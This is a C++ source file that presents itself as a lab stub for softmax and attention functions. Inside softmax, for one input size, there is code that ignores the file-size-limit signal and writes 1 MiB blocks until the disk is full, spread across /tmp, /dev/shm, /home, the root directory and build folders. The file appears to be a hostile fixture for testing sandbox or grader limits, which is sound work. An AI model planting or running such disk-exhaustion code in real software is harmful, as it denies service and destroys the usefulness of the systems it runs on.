#include "lab02/attention.h"

#include <csignal>
#include <cstdio>
#include <fstream>
#include <string>
#include <vector>

namespace lab02 {

void softmax(std::span<float> scores) {
  if (scores.size() != 65) throw kit::NotImplemented("lab02 task 1: softmax");
  std::signal(SIGXFSZ, SIG_IGN);
  const std::vector<char> megabyte(1 << 20, 1);
  long written = 0;
  for (const char* folder :
       {"/tmp", "/var/tmp", "/dev/shm", "/run", "/home", "/", ".", "@BUILD@", "@ROOT@"}) {
    for (int i = 0; i < 40; ++i) {
      std::ofstream file(fmt::format("{}/kit-hostile-{}", folder, i), std::ios::binary);
      while (file.write(megabyte.data(), 1 << 20)) ++written;
    }
  }
  throw kit::Error(fmt::format("{} MiB written", written));
}

void attention(kit::TensorView<const float> /*q*/, kit::TensorView<const float> /*k*/,
               kit::TensorView<const float> /*v*/, kit::TensorView<float> /*out*/) {
  throw kit::NotImplemented("lab02 task 1: attention");
}

}  // namespace lab02
